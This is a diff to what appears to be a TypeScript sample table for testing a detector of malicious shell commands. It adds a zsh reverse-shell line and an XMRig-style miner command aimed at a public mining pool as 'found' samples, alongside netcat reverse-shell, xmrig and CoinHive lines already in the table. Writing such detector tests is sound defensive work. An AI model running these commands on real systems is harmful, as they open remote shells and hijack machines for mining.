@@ -20,6 +20,10 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
     ],
     clean: [['timeout 1 bash -c "</dev/tcp/db/5432"'], ['(echo > /dev/tcp/localhost/80) >/dev/null 2>&1 && echo up']],
   },
+  'reverse-shell-zsh': {
+    found: [['zmodload zsh/net/tcp; ztcp', ' 10.0.0.1 53 && zsh -i <&$REPLY >&$REPLY']],
+    clean: [['zmodload zsh/net/tcp; ztcp localhost 6379; print -u $REPLY PING']],
+  },
   'reverse-shell-netcat': {
     found: [
       ['nc', ' -e /bin/sh 10.0.0.1 4444'],
@@ -300,9 +304,14 @@ const SAMPLES: Readonly<Record<string, Samples>> = {
     found: [
       ['./m -o stratum', '+tcp://pool.example.org:3333 -u wallet'],
       ['./xmrig', ' -o pool.example.org:4444 -u wallet --donate-level 1'],
+      ['run a/x:1 -o pool.', 'supportxmr.com:443 --tls -u wallet'],
       ['new CoinHive', '.Anonymous("key").start()'],
     ],
-    clean: [['XMRig is a miner that malware often installs.'], ['block outbound stratum+tcp traffic']],
+    clean: [
+      ['XMRig is a miner that malware often installs.'],
+      ['block outbound stratum+tcp traffic'],
+      ['the host pool.supportxmr.com:443 is blocked'],
+    ],
   },
   keylogger: {
     found: [
